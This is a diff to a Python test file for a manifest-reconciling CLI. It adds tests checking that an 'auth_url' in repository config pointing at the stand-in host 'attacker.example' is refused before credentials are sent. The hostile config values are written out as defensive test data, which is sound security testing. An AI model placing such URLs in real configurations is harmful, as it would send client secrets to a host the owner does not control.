@@ -12,12 +12,15 @@ import subprocess
 import sys
 from pathlib import Path
 
+import httpx
 import pytest
 import typer
 
 from reconciler import __version__
 from reconciler.cli import app
+from reconciler.settings import Settings
 from tests.support.cli import run_cli
+from tests.support.emulator import EmulatorServer
 from tests.support.workspace import SESSIONS, ca, checkpointed, write_manifests
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -401,6 +404,142 @@ def test_plain_http_to_another_host_warns_that_secrets_travel_unencrypted(
         "the credentials and the workspace's data travel unencrypted; use https://"
     ) in result.stderr
     assert "api_url" not in result.stderr  # loopback: a local emulator
+
+
+class Gateway(httpx.AsyncBaseTransport):
+    """The network as the CLI sees it: the emulator on loopback, and `attacker.example`,
+    whose requests are recorded and passed to the emulator (a gateway in front of it); no
+    other host. Every request the command makes is counted, wherever it goes."""
+
+    def __init__(self, emulator: EmulatorServer) -> None:
+        self.emulator = httpx.URL(emulator.url)
+        self.network = httpx.AsyncHTTPTransport(retries=0)
+        self.sent: list[httpx.Request] = []
+        self.attacker: list[httpx.Request] = []
+
+    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
+        self.sent.append(request)
+        if request.url.host == "attacker.example":
+            self.attacker.append(request)
+            url = request.url.copy_with(
+                scheme="http", host=self.emulator.host, port=self.emulator.port
+            )
+            request = httpx.Request(
+                request.method, url, headers=request.headers, content=request.content
+            )
+        elif request.url.host != self.emulator.host:
+            raise httpx.ConnectError("the test reaches no other host", request=request)
+        return await self.network.handle_async_request(request)
+
+    async def aclose(self) -> None:
+        await self.network.aclose()
+
+
+@pytest.fixture
+def gateway(emulator: EmulatorServer, monkeypatch: pytest.MonkeyPatch) -> Gateway:
+    """The CLI's network seam (`transport_for`): a Gateway to `emulator` for the target
+    mparticle (the embedded target's in-process emulator is no network)."""
+    from reconciler.api import transports
+
+    routed = Gateway(emulator)
+    embedded = transports.transport_for
+
+    def transport_for(settings: Settings) -> httpx.AsyncBaseTransport:
+        return embedded(settings) if settings.target == "embedded" else routed
+
+    monkeypatch.setattr(transports, "transport_for", transport_for)
+    return routed
+
+
+def test_reconciler_yaml_cannot_send_the_credentials_to_a_host_the_environment_does_not_trust(
+    tmp_path: Path, emulator: EmulatorServer, gateway: Gateway
+) -> None:
+    """`auth_url` in reconciler.yaml (which a pull request can change) sent the client id
+    and secret to any host it named; `plan` must refuse before sending anything."""
+    directory = write_manifests(
+        tmp_path / "m",
+        [ca("Sessions", SESSIONS)],
+        {"api_url": emulator.url, "auth_url": "https://attacker.example/oauth/token"},
+    )
+    env = {"MPARTICLE_CLIENT_ID": "emulator", "MPARTICLE_CLIENT_SECRET": "emulator"}
+    for command in (["plan"], ["apply", "--auto-approve"], ["export", "--out", tmp_path / "x"]):
+        result = run_cli(*command, directory, env=env)
+        assert result.exit_code == 1, result.output
+        assert "reconciler.yaml:1:" in result.stderr
+        assert " auth_url: " in result.stderr
+        assert "attacker.example is neither mParticle's" in result.stderr
+        assert "RECONCILER_TRUSTED_HOSTS=attacker.example" in result.stderr
+    assert (gateway.sent, gateway.attacker, emulator.log()) == ([], [], [])
+    validated = run_cli("validate", directory, env=env)
+    assert validated.exit_code == 1
+    assert "attacker.example is neither mParticle's" in validated.stderr
+
+    # The environment, not the repository, may choose the host: the allow-list, or the URL.
+    for allowed in (
+        {"RECONCILER_TRUSTED_HOSTS": "attacker.example"},
+        {"MPARTICLE_AUTH_URL": "https://attacker.example/oauth/token"},
+    ):
+        result = run_cli("plan", directory, env={**env, **allowed})
+        assert result.exit_code == 0, result.output
+        assert "Plan: 1 to create" in result.stdout
+    assert [request.url.path for request in gateway.attacker] == ["/oauth/token"] * 2
+    assert run_cli("validate", directory, env={**env, **allowed}).exit_code == 0
+
+
+def test_env_all_names_every_environment_s_untrusted_url_before_any_request(
+    tmp_path: Path, gateway: Gateway
+) -> None:
+    directory = write_manifests(
+        tmp_path / "m",
+        [ca("Sessions", SESSIONS)],
+        {
+            "target": "mparticle",
+            "environments": {
+                "dev": {"workspace_id": 1, "api_url": "http://api.mparticle.com"},
+                "prod": {"workspace_id": 2, "auth_url": "https://attacker.example/t"},
+            },
+        },
+    )
+    env = {"MPARTICLE_CLIENT_ID": "emulator", "MPARTICLE_CLIENT_SECRET": "emulator"}
+    result = run_cli("plan", directory, "--env", "all", env=env)
+    assert result.exit_code == 1, result.output
+    assert "Error: 2 errors in manifests:" in result.stderr
+    assert " environments.dev.api_url: 'http://api.mparticle.com'" in result.stderr
+    assert " environments.prod.auth_url: 'https://attacker.example/t'" in result.stderr
+    assert gateway.sent == []
+
+
+def test_apply_plan_checks_the_promotion_source_s_urls_before_any_request(
+    tmp_path: Path, gateway: Gateway
+) -> None:
+    """`apply --plan` reaches the promotion gate's source during the apply: its URLs are
+    checked with the plan's own, before the plan's workspace is even listed."""
+    environments = {
+        "default_environment": "dev",
+        "environments": {
+            "dev": {"workspace_id": 111},
+            "staging": {"workspace_id": 222},
+            "prod": {"workspace_id": 333, "promote_from": "staging"},
+        },
+    }
+    directory = write_manifests(tmp_path / "m", [ca("A")], environments)
+    saved = tmp_path / "prod.json"
+    planned = run_cli("plan", directory, "--env", "prod", "--allow", "promotion", "--out", saved)
+    assert planned.exit_code == 0, planned.output
+    environments["environments"]["staging"] = {  # type: ignore[index]
+        "workspace_id": 222,
+        "target": "mparticle",
+        "auth_url": "https://attacker.example/oauth/token",
+    }
+    write_manifests(directory, [ca("A")], environments)
+    env = {"MPARTICLE_CLIENT_ID": "emulator", "MPARTICLE_CLIENT_SECRET": "emulator"}
+    refused = run_cli("apply", "--plan", saved, "--allow", "promotion", env=env)
+    assert refused.exit_code == 1, refused.output
+    assert " environments.staging.auth_url: 'https://attacker.example/oauth/token'" in (
+        refused.stderr
+    )
+    assert "attacker.example is neither mParticle's" in refused.stderr
+    assert gateway.sent == []
 
 
 def test_a_checkpoint_that_is_a_directory_is_refused(tmp_path: Path) -> None:
